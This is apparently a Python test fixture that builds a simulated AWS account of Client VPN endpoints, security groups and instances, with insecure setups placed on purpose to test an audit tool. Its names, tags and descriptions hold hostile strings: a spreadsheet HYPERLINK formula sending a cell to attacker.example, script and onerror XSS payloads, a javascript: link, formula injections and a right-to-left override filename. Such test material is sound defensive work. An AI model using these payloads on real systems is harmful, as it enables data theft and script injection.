"""The bundled sample's world: one account, two Regions, six endpoints, receivers of every kind.

Built through the API as a customer would have built it, with what is usually found: the good
endpoint, the one of 2019 nobody dares to touch, the contractors', the branch offices', the lab's,
and one whose security group was changed this morning. Names and addresses are invented or from
documentation ranges. Some texts are hostile on purpose: they must come out of a report as text.
"""

from datetime import UTC, datetime, timedelta
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from tests.standin.server import ACCOUNT, StandIn
from tests.worlds import revocation_list, saml_metadata

__all__ = ["HOSTILE_NAMES", "NOW", "REGIONS", "build"]

TOKYO, VIRGINIA = REGIONS = ("ap-northeast-1", "us-east-1")
NOW = datetime(2026, 11, 2, 1, 0, tzinfo=UTC)
"""The sample's present: Monday 2 November 2026, 10:00 in Tokyo."""

ANYWHERE, ANYWHERE_IPV6 = "0.0.0.0/0", "::/0"
SAML = f"arn:aws:iam::{ACCOUNT}:saml-provider/corp-idp"
DIRECTORY = "d-9567000001"

HOSTILE_NAMES = (
    '=HYPERLINK("http://attacker.example/?x="&A1,"給与明細")',
    "</style></script><img src=x onerror=\"document.title='pwned'\">",
    "[printer](javascript:alert(1)) **new** | `x`",
)
"""What whoever may tag an instance could write there."""

SHADOW_POLICY = """\
// Trial since October: log what would be refused, refuse nothing yet.
permit (principal, action, resource)
when {
  context.saml.memberOf.contains("research") &&
  context.crowdstrike.assessment.overall >= 70
};

forbid (principal, action, resource)
when { context.jumpcloud.device.is_managed == false };
"""


class Place:
    """One Region of the sample: shorthands for the API calls that build it."""

    def __init__(self, aws: StandIn, region: str) -> None:
        self.aws, self.region = aws, region
        self.ec2: Any = aws.client("ec2", region)

    def tag(self, id: str, name: str, **tags: str) -> str:
        pairs = {"Name": name, **tags}
        self.ec2.create_tags(
            Resources=[id], Tags=[{"Key": key, "Value": value} for key, value in pairs.items()]
        )
        return id

    def vpc(self, name: str, cidr: str, *, ipv6: bool = False) -> str:
        made = self.ec2.create_vpc(CidrBlock=cidr, AmazonProvidedIpv6CidrBlock=ipv6)["Vpc"]
        return self.tag(made["VpcId"], name)

    def subnet(self, vpc: str, name: str, cidr: str, zone: str, ipv6: str | None = None) -> str:
        more = {"Ipv6CidrBlock": ipv6} if ipv6 else {}
        made = self.ec2.create_subnet(
            VpcId=vpc, CidrBlock=cidr, AvailabilityZone=self.region + zone, **more
        )
        return self.tag(made["Subnet"]["SubnetId"], name)

    def group(self, vpc: str, name: str, description: str, **tags: str) -> str:
        made = self.ec2.create_security_group(GroupName=name, Description=description, VpcId=vpc)
        if tags:
            self.ec2.create_tags(
                Resources=[made["GroupId"]],
                Tags=[{"Key": key, "Value": value} for key, value in tags.items()],
            )
        return str(made["GroupId"])

    def default_group(self, vpc: str) -> str:
        filters = [
            {"Name": "vpc-id", "Values": [vpc]},
            {"Name": "group-name", "Values": ["default"]},
        ]
        (group,) = self.ec2.describe_security_groups(Filters=filters)["SecurityGroups"]
        return str(group["GroupId"])

    def _permission(self, peer: str, ports: tuple[str, int, int], text: str) -> dict[str, Any]:
        described = {"Description": text} if text else {}
        protocol, low, high = ports
        permission: dict[str, Any] = {"IpProtocol": protocol}
        if protocol != "-1":
            permission |= {"FromPort": low, "ToPort": high}
        if peer.startswith("sg-"):
            permission["UserIdGroupPairs"] = [{"GroupId": peer, "UserId": ACCOUNT, **described}]
        elif peer.startswith("pl-"):
            permission["PrefixListIds"] = [{"PrefixListId": peer, **described}]
        elif ":" in peer:
            permission["Ipv6Ranges"] = [{"CidrIpv6": peer, **described}]
        else:
            permission["IpRanges"] = [{"CidrIp": peer, **described}]
        return permission

    def admit(
        self, group: str, peer: str, *ports: int, text: str = "", protocol: str = "tcp"
    ) -> None:
        """Let a peer in on ports (first and last; none for everything)."""
        span = (protocol, ports[0], ports[-1]) if ports else ("-1", 0, 0)
        self.ec2.authorize_security_group_ingress(
            GroupId=group, IpPermissions=[self._permission(peer, span, text)]
        )

    def prefix_list(self, name: str, *cidrs: str) -> str:
        made = self.ec2.create_managed_prefix_list(
            PrefixListName=name,
            AddressFamily="IPv4",
            MaxEntries=len(cidrs),
            Entries=[{"Cidr": cidr, "Description": f"東京 {name}"} for cidr in cidrs],
        )
        return str(made["PrefixList"]["PrefixListId"])

    def empty(self, group: str) -> None:
        """Revoke all rules of a group."""
        filters = [{"Name": "group-id", "Values": [group]}]
        rules = self.ec2.describe_security_group_rules(Filters=filters)["SecurityGroupRules"]
        for egress, revoke in (
            (True, self.ec2.revoke_security_group_egress),
            (False, self.ec2.revoke_security_group_ingress),
        ):
            ids = [r["SecurityGroupRuleId"] for r in rules if r["IsEgress"] == egress]
            if ids:
                revoke(GroupId=group, SecurityGroupRuleIds=ids)

    def confine(self, group: str, peer: str, *, text: str) -> None:
        """Replace the rules of a group by one that allows all traffic to a peer."""
        self.empty(group)
        self.ec2.authorize_security_group_egress(
            GroupId=group, IpPermissions=[self._permission(peer, ("-1", 0, 0), text)]
        )

    def endpoint(
        self,
        name: str,
        description: str,
        client_cidr: str,
        *,
        created: datetime | None = None,
        **more: Any,
    ) -> str:
        made = self.ec2.create_client_vpn_endpoint(
            ClientCidrBlock=client_cidr,
            Description=description,
            TagSpecifications=[
                {"ResourceType": "client-vpn-endpoint", "Tags": [{"Key": "Name", "Value": name}]}
            ],
            **more,
        )
        id = str(made["ClientVpnEndpointId"])
        if created:
            record = self.aws.record(id, region=self.region).record
            record["CreationTime"] = created.strftime("%Y-%m-%dT%H:%M:%S")
        return id

    def revocation_list(self, endpoint: str, *, days: float) -> None:
        """Import a revocation list that ends so many days from now."""
        self.ec2.import_client_vpn_client_certificate_revocation_list(
            ClientVpnEndpointId=endpoint,
            CertificateRevocationList=revocation_list(days=days, entries=2),
        )

    def associate(self, endpoint: str, *subnets: str) -> None:
        for subnet in subnets:
            self.ec2.associate_client_vpn_target_network(
                ClientVpnEndpointId=endpoint, SubnetId=subnet
            )

    def authorize(self, endpoint: str, cidr: str, group: str | None = None, text: str = "") -> None:
        who: dict[str, Any] = {"AccessGroupId": group} if group else {"AuthorizeAllGroups": True}
        self.ec2.authorize_client_vpn_ingress(
            ClientVpnEndpointId=endpoint, TargetNetworkCidr=cidr, Description=text, **who
        )

    def route(self, endpoint: str, cidr: str, subnet: str, text: str = "") -> None:
        self.ec2.create_client_vpn_route(
            ClientVpnEndpointId=endpoint,
            DestinationCidrBlock=cidr,
            TargetVpcSubnetId=subnet,
            Description=text,
        )

    def vpn_addresses(self, endpoint: str) -> list[str]:
        enis = self.ec2.describe_network_interfaces()["NetworkInterfaces"]
        return [e["PrivateIpAddress"] for e in enis if endpoint in e["Description"]]

    def instance(self, subnet: str, name: str, *groups: str, ip: str, **more: Any) -> str:
        """Add the interface of an EC2 instance."""
        tags = {"Name": name, **more.pop("tags", {})}
        number = f"{sum(map(ord, name)) % 0xFFFF:04x}"
        return self.aws.add_interface(
            subnet,
            *groups,
            region=self.region,
            ip=ip,
            tags=tags,
            instance=f"i-0a1b2c3d4e5f6{number}",
            **more,
        )

    def managed(
        self, subnet: str, description: str, *groups: str, ip: str, by: str, **more: Any
    ) -> str:
        """Add an interface that an AWS service keeps."""
        return self.aws.add_interface(
            subnet,
            *groups,
            region=self.region,
            ip=ip,
            description=description,
            requester_managed=True,
            requester_id=by,
            **more,
        )

    def certificate(self, domain: str, *, days: int, number: int, issued: bool = False) -> str:
        """Import a certificate, or have ACM issue it; its key is thrown away."""
        key = ec.derive_private_key(1_000_003 + number, ec.SECP256R1())
        name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, domain)])
        built = (
            x509.CertificateBuilder()
            .subject_name(name)
            .issuer_name(
                x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Example Internal CA")])
            )
            .public_key(key.public_key())
            .serial_number(0x5EED0000 + number)
            .not_valid_before(NOW - timedelta(days=397 - days))
            .not_valid_after(NOW + timedelta(days=days))
            .sign(key, hashes.SHA256())
        )
        made = self.aws.client("acm", self.region).import_certificate(
            Certificate=built.public_bytes(serialization.Encoding.PEM),
            PrivateKey=key.private_bytes(
                serialization.Encoding.PEM,
                serialization.PrivateFormat.PKCS8,
                serialization.NoEncryption(),
            ),
        )
        arn = str(made["CertificateArn"])
        if issued:
            self.aws.issue_certificate(arn, region=self.region)
        return arn

    def log_group(
        self, name: str, days: int | None, *, last: timedelta = timedelta(hours=1)
    ) -> dict[str, Any]:
        """Add a log group, with a stream that was written to so long ago."""
        logs = self.aws.client("logs", self.region)
        logs.create_log_group(logGroupName=name)
        if days:
            logs.put_retention_policy(logGroupName=name, retentionInDays=days)
        self.aws.write_log(name, "connections", NOW - last, region=self.region)
        return {"Enabled": True, "CloudwatchLogGroup": name}


def _saml() -> list[dict[str, Any]]:
    return [
        {"Type": "federated-authentication", "FederatedAuthentication": {"SAMLProviderArn": SAML}}
    ]


def _mutual(certificate: str) -> dict[str, Any]:
    return {
        "Type": "certificate-authentication",
        "MutualAuthentication": {"ClientRootCertificateChainArn": certificate},
    }


def build(aws: StandIn) -> None:
    """Build the sample into an empty stand-in, and refuse what its auditor may not read."""
    aws.switches.clock = NOW
    aws.add_saml_provider(
        SAML.rpartition("/")[2],
        saml_metadata(412),
        valid_until=datetime(2126, 4, 1, tzinfo=UTC),
        created=datetime(2024, 4, 1, tzinfo=UTC),
    )
    tokyo = Place(aws, TOKYO)
    aws.add_quota("ec2", "L-8EA77D34", "Client VPN endpoints per Region", 10)
    aws.add_quota("vpc", "L-0EA8095F", "Inbound or outbound rules per security group", 60)
    aws.add_quota("vpc", "L-2AFB9258", "Security groups per network interface", 5)
    _production(tokyo)
    _office(tokyo)
    _branches(tokyo)
    _lab(tokyo)
    _virginia(Place(aws, VIRGINIA))
    aws.deny("ec2", "DescribeNetworkAcls", region=VIRGINIA)
    aws.deny("ec2", "GetClientVpnEndpointAuthorizationPolicy", region=VIRGINIA)


def _production(tokyo: Place) -> None:
    """Build the production VPC with the model endpoint and the contractors' one."""
    prod = tokyo.vpc("本番 prod", "10.20.0.0/16")
    tokyo.empty(tokyo.default_group(prod))
    vpn_a = tokyo.subnet(prod, "prod-vpn-a", "10.20.1.0/24", "a")
    vpn_c = tokyo.subnet(prod, "prod-vpn-c", "10.20.2.0/24", "c")
    app_a = tokyo.subnet(prod, "prod-app-a", "10.20.11.0/24", "a")
    app_c = tokyo.subnet(prod, "prod-app-c", "10.20.12.0/24", "c")
    data = tokyo.subnet(prod, "prod-data-a", "10.20.21.0/24", "a")
    public = tokyo.subnet(prod, "prod-public-a", "10.20.101.0/24", "a")

    gateway = tokyo.ec2.create_internet_gateway()["InternetGateway"]["InternetGatewayId"]
    tokyo.ec2.attach_internet_gateway(InternetGatewayId=gateway, VpcId=prod)
    table = tokyo.ec2.create_route_table(VpcId=prod)["RouteTable"]["RouteTableId"]
    tokyo.tag(table, "prod-public")
    tokyo.ec2.create_route(RouteTableId=table, DestinationCidrBlock=ANYWHERE, GatewayId=gateway)
    tokyo.ec2.associate_route_table(RouteTableId=table, SubnetId=public)

    clients = tokyo.group(
        prod, "vpn-clients", "Employees over Client VPN", Name="vpn-clients", owner="network"
    )
    corp = tokyo.endpoint(
        "corp-vpn",
        "本社・在宅勤務向けVPN（SAML認証）",
        "172.20.0.0/22",
        created=datetime(2024, 4, 8, 2, 30, tzinfo=UTC),
        ServerCertificateArn=tokyo.certificate(
            "vpn.corp.example.com", days=214, number=1, issued=True
        ),
        AuthenticationOptions=_saml(),
        ConnectionLogOptions=tokyo.log_group("/vpn/corp", 365),
        SplitTunnel=True,
        DnsServers=["10.20.0.2"],
        VpcId=prod,
        SecurityGroupIds=[clients],
        SelfServicePortal="enabled",
        SessionTimeoutHours=10,
        ClientLoginBannerOptions={
            "Enabled": True,
            "BannerText": "許可された利用者のみ。接続は記録されます。",
        },
    )
    tokyo.associate(corp, vpn_a, vpn_c)
    tokyo.authorize(corp, "10.20.0.0/16", "engineering", "Production, for engineers")
    tokyo.authorize(corp, "10.20.0.0/16", "hr", "人事部")
    # Narrower than the two above: it takes the data subnet away from both.
    tokyo.authorize(corp, "10.20.21.0/24", "dba", "Databases, for DBAs only")
    tokyo.authorize(corp, "10.40.0.0/16", "engineering", "Shared services")
    for subnet in (vpn_a, vpn_c):
        tokyo.route(corp, "10.40.0.0/16", subnet, "Shared services, by peering")
    first, _ = tokyo.vpn_addresses(corp)

    office_ips = tokyo.prefix_list("office-ips", "198.51.100.0/28", "192.0.2.64/29")

    balancer = tokyo.group(prod, "public-web-alb", "Public load balancer")
    tokyo.admit(balancer, ANYWHERE, 443, text="Customers")
    tokyo.managed(
        public,
        "ELB app/public-web/50dc6c495c0c9188",
        balancer,
        ip="10.20.101.20",
        by="amazon-elb",
        public_ip="203.0.113.210",
    )

    orders = tokyo.group(prod, "orders-api", "Order service")
    tokyo.admit(orders, balancer, 8443, text="From the load balancer")
    tokyo.admit(orders, clients, 22, text="SSH for engineers over the VPN")
    tokyo.instance(app_a, "orders-api-1", orders, ip="10.20.11.21")
    tokyo.instance(app_c, "orders-api-2", orders, ip="10.20.12.21")

    payments = tokyo.group(prod, "payments-db", "Payments database", Name="決済DB", env="prod")
    tokyo.admit(payments, orders, 5432, text="Order service")
    tokyo.admit(payments, clients, 5432, text="DBAs over the VPN")
    tokyo.admit(payments, f"{first}/32", 5432, text="VPN (temporary, ask Sato)")
    tokyo.managed(data, "RDSNetworkInterface", payments, ip="10.20.21.30", by="amazon-rds")

    metrics = tokyo.group(prod, "grafana", "Dashboards")
    tokyo.admit(metrics, "10.20.1.0/24", 3000, text="VPN subnet A")
    tokyo.instance(app_a, "grafana", metrics, ip="10.20.11.40", tags={"team": "SRE チーム"})

    portal = tokyo.group(prod, "hr-portal", "HR portal")
    tokyo.admit(portal, "172.20.0.0/22", 443, text="VPN clients of head office")
    tokyo.admit(portal, "172.24.0.0/22", 443, text="Branch offices")
    tokyo.instance(app_c, "hr-portal 人事ポータル", portal, ip="10.20.12.50")

    function = tokyo.group(prod, "report-export", "Nightly report export")
    tokyo.managed(
        app_a,
        "AWS Lambda VPC ENI-report-export-5c0de7a1-0000-4000-8000-000000000001",
        function,
        ip="10.20.11.60",
        by="AROAEXAMPLE:report-export",
        type="lambda",
    )

    secrets = tokyo.group(prod, "vpce-secrets", "Interface endpoint of Secrets Manager")
    tokyo.admit(secrets, "10.20.0.0/16", 443, text="Whole VPC")
    tokyo.managed(
        app_a,
        "VPC Endpoint Interface vpce-0a1b2c3d4e5f60001",
        secrets,
        ip="10.20.11.70",
        by="amazon-vpce",
        type="vpc_endpoint",
    )
    tokyo.managed(
        public,
        "Interface for NAT Gateway nat-0a1b2c3d4e5f60001",
        ip="10.20.101.10",
        by="amazon-nat",
        type="natGateway",
        public_ip="203.0.113.211",
    )

    # The contractors' endpoint: certificates alone, everything open, no log, and its group, whose
    # inbound rule does nothing for the endpoint, opens the bastion that carries it too.
    contractors = tokyo.group(prod, "contractor-vpn", "Client VPN for contractors")
    tokyo.admit(contractors, ANYWHERE, 443, text="OpenVPN", protocol="udp")
    certificate = tokyo.certificate("contractors.vpn.example.com", days=23, number=2)
    contractor = tokyo.endpoint(
        "contractor-vpn",
        '<script>alert("contractors")</script> 委託先',
        "172.22.0.0/22",
        created=datetime(2025, 9, 1, 6, 0, tzinfo=UTC),
        ServerCertificateArn=certificate,
        AuthenticationOptions=[_mutual(certificate)],
        ConnectionLogOptions={"Enabled": False},
        VpcId=prod,
        SecurityGroupIds=[contractors],
        SplitTunnel=False,
    )
    tokyo.associate(contractor, public)
    # It ended last night: who is connected stays so, and nobody else gets in.
    tokyo.revocation_list(contractor, days=-0.25)
    tokyo.authorize(contractor, ANYWHERE, text="everything :-)")
    tokyo.route(contractor, ANYWHERE, public, "Internet")

    bastion = tokyo.group(prod, "bastion", "SSH from the offices")
    tokyo.admit(bastion, office_ips, 22, text="Offices")
    tokyo.instance(
        public, "bastion", bastion, contractors, ip="10.20.101.30", public_ip="203.0.113.212"
    )

    tokyo.group(prod, "migration-2023", "Temporary, for the data centre move")

    # Texts nobody should run. Names of groups allow few characters, tags any.
    formula = tokyo.group(prod, "=1+1", "@SUM(1+1)*cmd")
    tokyo.admit(formula, "10.20.2.0/24", 8080, text="=SUM(A1:A9)")
    tags = {
        "note": "</style></script><img src=x onerror=\"document.title='pwned'\">",
        "markdown": "| cell | `code` $x^2$ <!-- ",
    }
    tokyo.instance(app_a, "invoice\u202egpj.exe", formula, ip="10.20.11.90", tags=tags)

    _shared_services(tokyo, prod, clients)
    aws = tokyo.aws
    for index, (user, address) in enumerate(
        (("tanaka@example.com", "172.20.0.2"), ("o'brien@example.com", "172.20.0.34"))
    ):
        aws.add_connection(
            corp,
            Username=user,
            ClientIp=address,
            CommonName="",
            ConnectionEstablishedTime=f"2026-11-02 00:1{index}:00",
        )
    aws.add_connection(
        contractor,
        ClientIp="172.22.0.2",
        CommonName="contractor-07.example.net",
        ConnectionEstablishedTime="2026-11-01 14:40:00",
    )


def _shared_services(tokyo: Place, prod: str, clients: str) -> None:
    """Build the VPC behind the peering, with a network ACL of its own."""
    shared = tokyo.vpc("shared-services", "10.40.0.0/16")
    subnet = tokyo.subnet(shared, "shared-a", "10.40.1.0/24", "a")
    peering = tokyo.ec2.create_vpc_peering_connection(VpcId=prod, PeerVpcId=shared)
    id = tokyo.tag(peering["VpcPeeringConnection"]["VpcPeeringConnectionId"], "prod-shared")
    tokyo.ec2.accept_vpc_peering_connection(VpcPeeringConnectionId=id)
    tables = tokyo.ec2.describe_route_tables()["RouteTables"]
    for here, there in ((prod, "10.40.0.0/16"), (shared, "10.20.0.0/16")):
        for table in tables:
            if table["VpcId"] == here:
                tokyo.ec2.create_route(
                    RouteTableId=table["RouteTableId"],
                    DestinationCidrBlock=there,
                    VpcPeeringConnectionId=id,
                )

    acl = tokyo.ec2.create_network_acl(VpcId=shared)["NetworkAcl"]["NetworkAclId"]
    tokyo.tag(acl, "shared-strict")
    entries = (
        (90, "deny", False, "6", 22, 22),
        (100, "allow", False, "6", 443, 443),
        (110, "allow", False, "6", 5000, 5000),
        (100, "allow", True, "6", 1024, 65535),
    )
    for number, action, egress, protocol, low, high in entries:
        tokyo.ec2.create_network_acl_entry(
            NetworkAclId=acl,
            RuleNumber=number,
            RuleAction=action,
            Egress=egress,
            Protocol=protocol,
            CidrBlock="10.20.0.0/16",
            PortRange={"From": low, "To": high},
        )
    current = next(
        association["NetworkAclAssociationId"]
        for other in tokyo.ec2.describe_network_acls()["NetworkAcls"]
        for association in other["Associations"]
        if association["SubnetId"] == subnet
    )
    tokyo.ec2.replace_network_acl_association(AssociationId=current, NetworkAclId=acl)

    artifacts = tokyo.group(shared, "artifact-repo", "Container registry and packages")
    tokyo.admit(artifacts, clients, 443, text="Engineers over the VPN, by peering")
    tokyo.admit(artifacts, clients, 22, text="SSH (the network ACL says no)")
    tokyo.admit(artifacts, "10.20.0.0/16", 5000, text="Production pulls images")
    tokyo.instance(subnet, "artifact-repo", artifacts, ip="10.40.1.20")


def _office(tokyo: Place) -> None:
    """Build the office VPC: the endpoint of 2019, on the default group with everything else."""
    office = tokyo.vpc("office-tools", "10.30.0.0/16")
    subnet = tokyo.subnet(office, "office-a", "10.30.1.0/24", "a")
    default = tokyo.default_group(office)
    tokyo.tag(default, "office default (do not delete!!)")
    certificate = tokyo.certificate("vpn.office.example.com", days=120, number=3)
    legacy = tokyo.endpoint(
        "office-vpn-2019",
        "社内ツール用（旧）",
        "172.21.0.0/22",
        created=datetime(2019, 6, 3, 1, 15, tzinfo=UTC),
        ServerCertificateArn=certificate,
        AuthenticationOptions=[
            {
                "Type": "directory-service-authentication",
                "ActiveDirectory": {"DirectoryId": DIRECTORY},
            },
            _mutual(certificate),
        ],
        ConnectionLogOptions=tokyo.log_group("/vpn/office", None, last=timedelta(days=75)),
        SplitTunnel=True,
    )
    tokyo.associate(legacy, subnet)
    tokyo.revocation_list(legacy, days=141)
    tokyo.aws.add_directory(DIRECTORY)
    tokyo.authorize(legacy, "10.30.0.0/16", text="Everyone in the directory")
    tokyo.instance(subnet, "wiki", default, ip="10.30.1.20")
    tokyo.instance(subnet, "ci-runner", default, ip="10.30.1.21")
    for number, name in enumerate(HOSTILE_NAMES):
        tokyo.instance(subnet, name, default, ip=f"10.30.1.{30 + number}")
    files = tokyo.group(office, "file-server", "SMB")
    tokyo.admit(files, "10.30.0.0/16", 445, text="Whole VPC")
    tokyo.instance(subnet, "file-server ファイルサーバー", default, files, ip="10.30.1.22")


def _branches(tokyo: Place) -> None:
    """Build the branch offices' endpoint, on a transit gateway."""
    gateway = tokyo.ec2.create_transit_gateway(Description="Hub of the branch offices")
    id = gateway["TransitGateway"]["TransitGatewayId"]
    tokyo.tag(id, "branch-hub")
    branch = tokyo.endpoint(
        "branch-vpn",
        "Branch offices, over the transit gateway",
        "172.24.0.0/22",
        created=datetime(2026, 5, 11, 4, 0, tzinfo=UTC),
        ServerCertificateArn=tokyo.certificate(
            "branch.vpn.example.com", days=301, number=4, issued=True
        ),
        ClientConnectOptions={
            "Enabled": True,
            "LambdaFunctionArn": tokyo.aws.add_function("AWSClientVPN-branch-hours"),
        },
        AuthenticationOptions=_saml(),
        ConnectionLogOptions=tokyo.log_group("/vpn/branch", 90),
        SplitTunnel=True,
        TransitGatewayConfiguration={
            "TransitGatewayId": id,
            "AvailabilityZones": [TOKYO + "a", TOKYO + "c"],
        },
    )
    tokyo.authorize(branch, "10.20.12.0/24", "branch-staff", "HR portal")
    tokyo.ec2.create_client_vpn_route(
        ClientVpnEndpointId=branch,
        DestinationCidrBlock="10.20.0.0/16",
        Description="Production, by the hub",
    )


def _lab(tokyo: Place) -> None:
    """Build the research lab: dual stack, a Cedar policy on trial."""
    lab = tokyo.vpc("research-lab", "10.50.0.0/16", ipv6=True)
    (found,) = tokyo.ec2.describe_vpcs(VpcIds=[lab])["Vpcs"]
    block = found["Ipv6CidrBlockAssociationSet"][0]["Ipv6CidrBlock"]
    subnet = tokyo.subnet(lab, "lab-a", "10.50.1.0/24", "a", block.replace("/56", "/64"))
    clients = tokyo.group(lab, "lab-vpn", "Researchers over Client VPN")
    tokyo.confine(clients, "10.50.0.0/16", text="The lab and nothing else")
    endpoint = tokyo.endpoint(
        "lab-vpn",
        "Dual stack; Cedar policy on trial",
        "172.25.0.0/22",
        created=datetime(2026, 10, 12, 7, 45, tzinfo=UTC),
        ServerCertificateArn=tokyo.certificate(
            "lab.vpn.example.com", days=88, number=5, issued=True
        ),
        AuthenticationOptions=_saml(),
        ConnectionLogOptions={
            **tokyo.log_group("/vpn/lab", 30),
            "IncludeAuthorizationPolicyContext": True,
        },
        SplitTunnel=True,
        VpcId=lab,
        SecurityGroupIds=[clients],
        EndpointIpAddressType="dual-stack",
        TrafficIpAddressType="dual-stack",
        DevicePostureOptions={
            "Enabled": True,
            "TrustProviders": [{"TrustProviderType": "crowdstrike", "TenantId": "example-tenant"}],
        },
    )
    tokyo.associate(endpoint, subnet)
    tokyo.authorize(endpoint, "10.50.0.0/16", "research", "Lab")
    tokyo.authorize(endpoint, ANYWHERE_IPV6, "research", "Lab over IPv6")
    tokyo.route(endpoint, block, subnet, "Lab over IPv6")
    tokyo.ec2.modify_client_vpn_endpoint_authorization_policy(
        ClientVpnEndpointId=endpoint,
        PolicyDocument=SHADOW_POLICY,
        Description="Device posture, on trial",
        ShadowMode="enabled",
    )
    notebooks = tokyo.group(lab, "gpu-notebooks", "Notebook servers")
    tokyo.admit(notebooks, clients, 8888, text="Researchers over the VPN")
    tokyo.admit(notebooks, ANYWHERE_IPV6, 8888, text="IPv6, quick fix")
    address = block.replace("::/56", "::20")
    tokyo.instance(subnet, "gpu-notebook-1", notebooks, ip="10.50.1.20", ipv6=(address,))


def _virginia(virginia: Place) -> None:
    """Build the second Region: a change of groups that has not reached the interfaces yet."""
    vpc = virginia.vpc("us-prod", "10.60.0.0/16")
    vpn = virginia.subnet(vpc, "us-vpn-a", "10.60.1.0/24", "a")
    app = virginia.subnet(vpc, "us-app-a", "10.60.11.0/24", "a")
    old = virginia.group(vpc, "us-vpn-shared", "VPN and jump hosts")
    virginia.admit(old, old, text="Members talk to each other")
    new = virginia.group(vpc, "us-vpn-clients", "Client VPN only")
    endpoint = virginia.endpoint(
        "us-vpn",
        "US staff; moved to its own security group this morning",
        "172.23.0.0/22",
        created=datetime(2025, 2, 17, 15, 0, tzinfo=UTC),
        ServerCertificateArn=virginia.certificate(
            "us.vpn.example.com", days=190, number=6, issued=True
        ),
        AuthenticationOptions=_saml(),
        ConnectionLogOptions=virginia.log_group("/vpn/us", 365),
        SplitTunnel=True,
        VpcId=vpc,
        SecurityGroupIds=[old],
    )
    virginia.associate(endpoint, vpn)
    virginia.authorize(endpoint, "10.60.0.0/16", "us-staff", "US production")
    virginia.ec2.modify_client_vpn_endpoint(
        ClientVpnEndpointId=endpoint, VpcId=vpc, SecurityGroupIds=[new]
    )
    erp = virginia.group(vpc, "erp", "ERP")
    virginia.admit(erp, new, 443, text="US staff over the VPN")
    virginia.instance(app, "erp", erp, ip="10.60.11.20")
    crm = virginia.group(vpc, "crm", "CRM")
    virginia.admit(crm, "10.60.1.0/24", 443, text="VPN subnet")
    virginia.instance(app, "crm", crm, ip="10.60.11.21")
    virginia.instance(app, "jump-host", old, ip="10.60.11.30")
